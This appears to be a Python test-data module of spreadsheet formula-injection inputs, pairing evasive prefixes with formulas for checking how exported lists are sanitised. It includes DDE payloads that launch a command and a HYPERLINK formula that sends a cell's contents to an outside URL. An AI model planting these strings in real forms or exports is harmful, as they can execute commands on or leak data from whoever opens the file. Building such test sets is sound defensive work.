"""What has been typed into forms so that the spreadsheet of whoever opens the list reckons, calls or shows it."""

from __future__ import annotations

from itertools import product

_BEFORE = ("", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u200b\u202e", "\ufeff", "x\n", "x;", "x\t", '"', 'x;"', "'")
_FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "−1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://example.org?x="&A1,"open")',
    '=IMPORTXML("https://example.org","//a")',
    '=DDE("cmd";"/C calc";"x")',
)
FORMULAS = tuple(before + formula for before, formula in product(_BEFORE, _FORMULAS))
LINKS = (
    "https://example.org",
    "mailto:a@example.org",
    "internal:Sheet2!A1",
    "external:c:\\x.xlsx",
    "{=1+1}",
    "_x003D_1+1",
)
